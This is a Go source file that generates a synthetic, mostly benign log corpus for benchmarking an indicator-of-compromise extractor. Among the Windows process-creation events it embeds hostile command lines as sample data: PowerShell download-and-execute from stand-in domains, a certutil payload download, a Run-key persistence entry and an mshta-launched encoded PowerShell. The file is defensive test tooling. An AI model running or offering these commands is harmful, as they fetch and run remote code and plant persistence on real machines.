package ioc

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// benchCorpus makes deterministic, realistic log text of at least size
// bytes, one record a line: proxy logs, Windows process creation events,
// DNS query logs, EDR file events with hashes, syslog and web server lines
// (mostly benign), and threat-intel notes with defanged indicators. The mix
// is weighted toward the benign, as real exports are.
func benchCorpus(size int) []byte {
	r := rand.New(rand.NewPCG(1, 2))
	pick := func(xs ...string) string { return xs[r.IntN(len(xs))] }
	hexs := func(n int) string {
		const digits = "0123456789abcdef"
		b := make([]byte, n)
		for i := range b {
			b[i] = digits[r.IntN(16)]
		}
		return string(b)
	}
	pubIP := func() string {
		return fmt.Sprintf("%s.%d.%d.%d", pick("23", "31", "45", "52", "93", "104", "142", "151", "172", "185", "203"), r.IntN(256), r.IntN(256), 1+r.IntN(254))
	}
	privIP := func() string { return fmt.Sprintf("10.%d.%d.%d", r.IntN(256), r.IntN(256), 1+r.IntN(254)) }
	ts := func() string {
		return fmt.Sprintf("2024-05-%02dT%02d:%02d:%02d.%03dZ", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000))
	}
	domain := func() string {
		return pick("www.", "cdn.", "api.", "", "static.", "login.") +
			pick("google", "microsoft", "example-news", "shop-online", "cloudfront", "akamaihd", "evil-update", "xk2j9-cdn", "github", "office365") +
			pick(".com", ".net", ".org", ".co.uk", ".de", ".io", ".ru", ".xyz", ".top")
	}
	path := func() string {
		return pick("/", "/index.html", "/assets/js/app.min.js", "/api/v1/items?id="+fmt.Sprint(r.IntN(99999)), "/wp-content/plugins/x/readme.txt",
			"/download/"+hexs(32)+".exe", "/images/logo.png", "/search?q=vtenrich+log+enrichment&hl=en", "/gate.php", "/update/check?v=10.0.19041.1")
	}
	proc := func() string {
		return pick(`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\explorer.exe`,
			`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Windows\System32\svchost.exe`, `C:\Users\jdoe\AppData\Local\Temp\setup.exe`,
			`C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\certutil.exe`)
	}
	cmdline := func() string {
		return pick(
			`cmd.exe /c "systeminfo && whoami /all"`,
			`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://`+domain()+path()+`')"`,
			`rundll32.exe C:\Users\jdoe\AppData\Local\Temp\update.dll,DllRegisterServer`,
			`certutil -urlcache -split -f http://`+pubIP()+`/a.bin C:\ProgramData\a.bin`,
			`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234,i,`+fmt.Sprint(r.Int64()),
			`svchost.exe -k netsvcs -p -s Schedule`,
			`net use \\fileserver01\share /user:CORP\jdoe`,
			`reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d C:\Users\Public\upd.exe /f`,
			`mshta vbscript:CreateObject("Wscript.Shell").Run("powershell -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==",0)(window.close)`,
			`python3 script.py --input data.json --out report.csv`,
		)
	}
	lines := []func() string{
		func() string { // squid proxy
			return fmt.Sprintf("%d.%03d %6d %s TCP_MISS/200 %d GET http://%s%s - HIER_DIRECT/%s text/html",
				1714550000+r.IntN(100000), r.IntN(1000), r.IntN(5000), privIP(), r.IntN(100000), domain(), path(), pubIP())
		},
		func() string { // process creation
			return fmt.Sprintf(`%s host=WS-%04d user=CORP\jdoe EventID=4688 NewProcessName=%s CommandLine=%q ParentProcessName=%s ProcessId=0x%x`,
				ts(), r.IntN(9999), proc(), cmdline(), proc(), r.IntN(65536))
		},
		func() string { // BIND query log
			d := domain()
			return fmt.Sprintf("%02d-May-2024 %02d:%02d:%02d.%03d queries: info: client @0x7f%x %s#%d (%s): query: %s IN %s +E(0)K (%s)",
				1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000), r.Int32(), privIP(), 1024+r.IntN(60000), d, d, pick("A", "AAAA", "HTTPS"), privIP())
		},
		func() string { // EDR file event
			return fmt.Sprintf(`{"ts":"%s","host":"ws-%04d","event":"file_create","path":"C:\\Users\\jdoe\\Downloads\\%s","md5":"%s","sha1":"%s","sha256":"%s","signer":"%s","size":%d}`,
				ts(), r.IntN(9999), pick("invoice.pdf.exe", "setup.msi", "report.docx", "update.zip", "photo.jpg"), hexs(32), hexs(40), hexs(64),
				pick("Microsoft Corporation", "", "Google LLC"), r.IntN(10_000_000))
		},
		func() string { // sshd / syslog
			return fmt.Sprintf("May %2d %02d:%02d:%02d web%02d sshd[%d]: Accepted publickey for deploy from %s port %d ssh2: ED25519 SHA256:%s",
				1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(20), r.IntN(65536), pick(privIP(), pubIP(), "2001:db8:85a3::8a2e:370:7334"), 1024+r.IntN(60000),
				"AAAAC3NzaC1lZDI1NTE5AAAAIHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4")
		},
		func() string { // nginx access log
			return fmt.Sprintf(`%s - - [01/May/2024:%02d:%02d:%02d +0000] "GET %s HTTP/1.1" %s %d "https://%s/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"`,
				pick(pubIP(), "2a00:1450:4001:82b::200e", "::ffff:"+pubIP()), r.IntN(24), r.IntN(60), r.IntN(60), path(), pick("200", "304", "404"), r.IntN(50000), domain())
		},
		func() string { // benign application text, some of it not English
			return pick(
				"INFO  [main] c.e.app.Server - Started Server in 3.421 seconds (JVM running for 4.02), version 2.7.18, build 1.4.2.33",
				"WARN  user jdoe@corp.example.com failed login 3 times; account locked until 12:45:00 UTC. See KB article 4021 for details.",
				"Der Benutzer hat die Datei geöffnet und danach den Rechner neu gestartet – keine Auffälligkeiten.",
				"kernel: [12345.678901] e1000e 0000:00:1f.6 eth0: NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx",
				"Backup job 'nightly' finished: 1,234 files, 5.6 GB, 0 errors. Next run at 02:00.",
				"用户已登录，未发现异常行为。请检查日志以获取更多信息。",
			)
		},
		func() string { // threat intel note, defanged
			return fmt.Sprintf("IOC %s: C2 hxxps://%s[.]%s/gate.php and %s[.]%d, dropper sha256 %s (also seen as %s)",
				ts(), pick("update-check", "cdn-sync", "login-verify"), pick("com", "net", "top"), strings.ReplaceAll(pubIP(), ".", "[.]")[:9], r.IntN(255), hexs(64), hexs(32))
		},
	}
	weights := []int{20, 20, 15, 10, 10, 10, 12, 3}
	var sum int
	for _, w := range weights {
		sum += w
	}
	var b strings.Builder
	for b.Len() < size {
		x := r.IntN(sum)
		for i, w := range weights {
			if x < w {
				b.WriteString(lines[i]())
				b.WriteByte('\n')
				break
			}
			x -= w
		}
	}
	return []byte(b.String())
}
